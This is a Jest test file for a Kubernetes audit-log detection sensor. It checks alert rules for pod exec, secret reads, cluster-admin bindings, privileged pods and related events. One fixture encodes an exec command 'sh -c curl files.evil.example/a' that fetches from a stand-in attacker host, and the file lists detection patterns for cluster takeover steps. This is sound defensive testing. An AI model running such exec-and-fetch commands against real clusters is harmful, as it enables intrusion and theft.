import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import { auditRules } from '../../../integrations/sensors/kubernetes-audit/rules.ts';
import { alertOf, fixture, itemsOf } from './read.ts';

const user = { username: 'eve', groups: ['system:authenticated'] };
const event = (change: object): object => ({
  kind: 'Event',
  apiVersion: 'audit.k8s.io/v1',
  level: 'Request',
  auditID: '00000000-0000-4000-8000-000000000009',
  stage: 'ResponseComplete',
  requestURI: '/api/v1/x',
  verb: 'get',
  user,
  sourceIPs: ['198.51.100.4'],
  responseStatus: { code: 200 },
  requestReceivedTimestamp: '2026-06-01T10:00:00.000001Z',
  stageTimestamp: '2026-06-01T10:00:00.000002Z',
  ...change,
});
const target = (resource: string, subresource?: string) => ({
  objectRef: { resource, namespace: 'shop', name: 'cart-1', apiVersion: 'v1', ...(subresource && { subresource }) },
});

describe('a batch', () => {
  test('gives one alert for an exec, about its pod, when it is answered', () => {
    const items = itemsOf(fixture('kubernetes-audit/rw-eventlist-two-items-exec.json'));
    expect(items.map(({ kind }) => kind)).toEqual(['ignored', 'alert']);
    expect(items[1]).toMatchObject({
      alert: {
        sensor: 'kubernetes-audit',
        rule: 'Exec into pod',
        severity: 'medium',
        time: '2026-06-01T10:00:00.000001Z',
        title: 'alice did create pods/exec team-a/api-0: sh',
        pod: { namespace: 'team-a', name: 'api-0' },
        process: { user: 'alice', commandLine: 'sh' },
        observables: [{ type: 'user', value: 'alice' }],
        mitre: ['T1609', 'TA0002'],
      },
    });
  });

  test('keeps for each item only its own bytes, whatever its size', () => {
    const small = event({ auditID: 'a-small-one', ...target('pods', 'exec') });
    const large = event({ auditID: 'a-large-one', ...target('secrets'), pad: 'x'.repeat(700_000) });
    const items = itemsOf({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', items: [large, small, large] });
    expect(items.map(({ kind }) => kind)).toEqual(['alert', 'alert', 'alert']);
    expect(JSON.parse(new TextDecoder().decode(items[1]?.raw))).toEqual(small);
  });

  test('one bad item fails alone, and an empty one is no fault', () => {
    const items = itemsOf(
      { kind: 'EventList', items: [event(target('pods', 'exec')), 7, { auditID: 'x' }, null] },
      { sensor: 'kubernetes-audit' },
    );
    expect(items.map(({ kind }) => kind)).toEqual(['alert', 'rejected', 'rejected', 'rejected']);
    expect(itemsOf({ kind: 'EventList', items: [] })).toMatchObject([{ kind: 'ignored' }]);
  });

  test('names in escapes, doubled lists and odd blanks do not confuse which list counts', () => {
    const one = JSON.stringify(event(target('pods', 'exec')));
    const text = `{"kind":"EventList","items":[${one},${one}] , "note" : "]}" ,"n":1,"\\u0069tems" : [ ${one} ] }`;
    expect(itemsOf(text)).toHaveLength(1);
  });
});

describe('one request', () => {
  test('for an exec names the container, the command and what that connects to', () => {
    const requestURI =
      '/api/v1/namespaces/shop/pods/cart-1/exec?command=sh&command=-c&command=curl+files.evil.example%2Fa&container=app&stdin=true';
    expect(alertOf(event({ ...target('pods', 'exec'), requestURI, sourceIPs: ['::ffff:198.51.100.4'] }))).toMatchObject({
      container: { name: 'app' },
      process: { user: 'eve', commandLine: 'sh -c curl files.evil.example/a' },
      observables: [
        { type: 'user', value: 'eve' },
        { type: 'ip', value: '198.51.100.4' },
        { type: 'domain', value: 'files.evil.example' },
      ],
    });
  });

  test('has one id in all stages that answer it', () => {
    const exec = target('pods', 'exec');
    const started = alertOf(event({ ...exec, stage: 'ResponseStarted', responseStatus: { code: 101 } }));
    expect(alertOf(event({ ...exec, stageTimestamp: '2026-06-01T11:00:00Z' })).id).toBe(started.id);
    expect(alertOf(event({ ...exec, auditID: 'another' })).id).not.toBe(started.id);
  });

  const secretRead = target('secrets');
  test.each([
    ['Exec into pod', { ...target('pods', 'exec'), verb: 'create' }],
    ['Attach to pod', { ...target('pods', 'attach'), verb: 'create' }],
    ['Port forward to pod', { ...target('pods', 'portforward'), verb: 'create' }],
    ['Ephemeral container added', { ...target('pods', 'ephemeralcontainers'), verb: 'patch' }],
    ['Proxy to node', { ...target('nodes', 'proxy'), verb: 'get' }],
    ['Secret read', secretRead],
    ['Secrets listed', { ...secretRead, verb: 'list' }],
    ['Token requested', { ...target('serviceaccounts', 'token'), verb: 'create' }],
    ['RBAC changed', { ...target('rolebindings'), verb: 'create', requestObject: { roleRef: { name: 'view' } } }],
    [
      'Cluster administrator bound',
      { ...target('clusterrolebindings'), verb: 'create', requestObject: { roleRef: { name: 'cluster-admin' } } },
    ],
    [
      'Role with all rights',
      { ...target('clusterroles'), verb: 'update', requestObject: { rules: [{ verbs: ['*'], resources: ['*'] }] } },
    ],
    ['Admission control changed', { ...target('validatingwebhookconfigurations'), verb: 'delete' }],
    ['Pod that opens the node', { ...target('pods'), verb: 'create', requestObject: { spec: { hostPID: true } } }],
    [
      'Pod that opens the node',
      {
        ...target('cronjobs'),
        verb: 'create',
        requestObject: {
          spec: { jobTemplate: { spec: { template: { spec: { containers: [{ securityContext: { privileged: true } }] } } } } },
        },
      },
    ],
    ['Certificate approved', { ...target('certificatesigningrequests', 'approval'), verb: 'update' }],
    ['Objects deleted in bulk', { ...target('pods'), verb: 'deletecollection' }],
    ['Namespace deleted', { objectRef: { resource: 'namespaces', name: 'shop' }, verb: 'delete' }],
    ['Events deleted', { ...target('events'), verb: 'delete' }],
    ['Anonymous request allowed', { ...secretRead, user: { username: 'system:anonymous' }, requestURI: '/api/v1/secrets' }],
  ])('%s', (rule, change) => expect(alertOf(event(change)).rule).toBe(rule));

  test('every rule has a name of its own and is documented as it is', () => {
    expect(new Set(auditRules.map(({ name }) => name)).size).toBe(auditRules.length);
    const page = readFileSync(join(import.meta.dirname, '../../../docs/sensors/kubernetes-audit.md'), 'utf8');
    const rows = auditRules.map(({ name, severity, about }) => `| ${name} | ${severity} | ${about} |`);
    expect(page).toContain(rows.join('\n'));
  });

  test.each([
    ['a get of a pod', target('pods')],
    ['the control plane’s reading of secrets', { ...secretRead, user: { username: 'system:kube-controller-manager' } }],
    ['a node’s', { ...secretRead, user: { username: 'system:node:n1' } }],
    [
      'the namespace controller’s cleaning',
      {
        ...target('pods'),
        verb: 'deletecollection',
        user: { username: 'system:serviceaccount:kube-system:namespace-controller' },
      },
    ],
    ['a plain pod', { ...target('pods'), verb: 'create', requestObject: { spec: { containers: [{ name: 'a' }] } } }],
    ['a secret that is not there', { ...secretRead, responseStatus: { code: 404 } }],
    ['anonymous health', { user: { username: 'system:anonymous' }, requestURI: '/livez?verbose' }],
    ['anonymous discovery', { user: { username: 'system:anonymous' }, requestURI: '/apis/apps/v1' }],
    ['the first stage', { ...secretRead, stage: 'RequestReceived' }],
  ])('%s is no alert', (_what, change) => expect(itemsOf(event(change))).toMatchObject([{ kind: 'ignored' }]));

  test('that was refused is one of low severity, whatever it would have been', () => {
    const refused = alertOf(event({ ...target('pods', 'exec'), responseStatus: { code: 403 } }));
    expect(refused).toMatchObject({
      rule: 'Exec into pod (refused)',
      severity: 'low',
      title: expect.stringContaining('was refused'),
    });
  });

  test('of a pod’s token for something else is about that pod', () => {
    const extra = {
      'authentication.kubernetes.io/pod-name': ['cart-1'],
      'authentication.kubernetes.io/pod-uid': ['u-1'],
      'authentication.kubernetes.io/node-name': ['n1'],
    };
    const own = { username: 'system:serviceaccount:shop:cart', extra };
    expect(alertOf(event({ ...secretRead, user: own }))).toMatchObject({
      pod: { namespace: 'shop', name: 'cart-1', uid: 'u-1' },
      node: 'n1',
      process: { user: 'system:serviceaccount:shop:cart' },
    });
    expect(alertOf(event({ ...secretRead, user: { username: 'eve', extra } }))).not.toHaveProperty('pod');
  });
});
